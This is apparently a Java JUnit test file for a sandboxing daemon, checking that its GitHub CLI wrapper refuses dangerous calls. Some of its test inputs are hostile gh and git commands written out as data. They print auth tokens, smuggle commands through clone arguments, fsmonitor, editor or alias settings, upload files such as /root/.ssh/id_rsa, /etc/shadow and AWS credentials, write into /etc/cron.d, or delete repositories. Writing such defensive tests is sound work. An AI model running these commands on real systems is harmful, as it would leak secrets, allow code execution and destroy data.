package airlock.attacks;

import airlock.daemon.Git;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** Attacks on the gh module through the real daemon, with a recording fake gh. See builtin-commands/gh/SECURITY.md. */
class GhAttackTest extends FakeToolAttacks {
    @Override String tool() { return "gh"; }

    @BeforeEach
    void setUp() throws Exception {
        start("");
    }

    @Test
    void credentialsPrintedByGhAreRefused() throws Exception {
        refused("auth", "token");
        refused("auth", "token", "--hostname", "github.com");
        refused("auth", "status", "-t");
        refused("auth", "status", "--show-token");
        refused("auth", "login", "--with-token");
        refused("auth", "setup-git");
        refused("auth", "switch");
        refused("auth", "git-credential", "get");
        refused("config", "get", "oauth_token", "-h", "github.com");
    }

    /** gh runs git in the working folder: the repository there is judged as for a git command. */
    @Test
    void theGitThatGhRunsNeverReadsAWorkspaceProgram() throws Exception {
        Path repo = Git.initRepo(proxy.work.resolve("repo"));
        Git.run(repo, "config", "core.fsmonitor", "touch " + proxy.canary);
        int before = proxy.calls("gh");
        var r = proxy.run(repo, "gh", "pr", "status");
        assertThat(r.refused()).as(r.err()).isTrue();
        assertThat(r.err()).contains("gh runs git here", "core.fsmonitor");
        assertThat(proxy.calls("gh")).isEqualTo(before);
        assertThat(proxy.canary).doesNotExist();

        Git.run(repo, "config", "--unset", "core.fsmonitor");
        var ok = proxy.run(repo, "gh", "pr", "status");
        assertThat(ok.refused()).as(ok.err()).isFalse();
        assertThat(proxy.calls("gh")).isEqualTo(before + 1);
        FakeCall call = proxy.lastCall("gh");
        assertThat(call.env()).containsEntry("GIT_CONFIG_KEY_1", "core.fsmonitor").containsEntry("GIT_CONFIG_VALUE_1", "false")
                .containsEntry("GIT_CONFIG_VALUE_0", "/dev/null");
    }

    @Test
    void argumentsPassedThroughToGitCloneAreRefused() throws Exception {
        refused("repo", "clone", "o/r", "dir", "--", "-u", "touch /tmp/x");
        refused("repo", "clone", "o/r", "--", "--config", "core.sshCommand=touch /tmp/x");
        refused("repo", "fork", "o/r", "--clone", "--", "--upload-pack=touch /tmp/x");
        ran("repo", "clone", "o/r", "dir");
    }

    @Test
    void hostConfigAliasesAndExtensionsThatRunCommandsAreRefused() throws Exception {
        refused("config", "set", "editor", "sh -c 'touch /tmp/x'");
        refused("config", "set", "pager", "sh");
        refused("alias", "set", "x", "--shell", "touch /tmp/x");
        refused("extension", "install", "evil/gh-evil");
        refused("ext", "install", "evil/gh-evil");
        refused("browse");
        refused("pr", "view", "--web");
        refused("pr", "create", "-w");
        refused("codespace", "ssh");
    }

    @Test
    void hostFilesAreNotUploaded() throws Exception {
        refused("gist", "create", "/root/.ssh/id_rsa");
        refused("api", "repos/o/r/issues", "-F", "body=@/root/.aws/credentials");
        refused("issue", "create", "--title", "x", "--body-file", "/etc/shadow");
        refused("release", "upload", "v1", "/root/.netrc");
        // files gh writes or reads through a flag whose value is glued on
        refused("run", "download", "123", "--dir=/etc/cron.d");
        refused("run", "download", "123", "-D/etc/cron.d");
        refused("run", "download", "123", "-D", "/etc/cron.d");
        refused("release", "download", "v1", "--output=/root/.bashrc");
        refused("release", "create", "v1", "--notes-file=/root/.netrc");
        refused("secret", "set", "--env-file=/root/.env");
        refused("gist", "edit", "1", "--add=../../../../root/.ssh/id_rsa");
        ran("run", "download", "123", "--dir=artifacts");
        ran("issue", "create", "--title", "~ is not a path to gh", "--body", "text"); // gh does not expand ~
        ran("repo", "view", "--json=name,url");
        ran("api", "/repos/o/r/pulls");
    }

    @Test
    void theCallersTokenNeverReachesGh() throws Exception {
        FakeCall call = ranWith(HOSTILE_ENV, new byte[0], "pr", "list");
        noHostileVariableReachesTheTool(call);
        assertThat(call.env()).containsEntry("GH_PAGER", "cat").containsEntry("GH_BROWSER", "false")
                .containsEntry("GH_PROMPT_DISABLED", "1");
    }

    @Test
    void destructiveOperationsAreRefused() throws Exception {
        refused("repo", "delete", "o/r", "--yes");
        refused("api", "-X", "DELETE", "repos/o/r");
        refused("api", "--method=delete", "repos/o/r");
        refused("release", "delete", "v1");
    }

    @Test
    void ordinaryUseKeepsWorking() throws Exception {
        ran("pr", "create", "--title", "Fix", "--body", "Details", "--base", "main");
        ran("pr", "list");
        ran("issue", "view", "12");
        ran("auth", "status");
        ran("api", "repos/o/r/pulls", "--jq", ".[].title");
        ordinaryThroughTheShim("pr", "create", "--title", "Fix", "--body", "Details");
    }
}
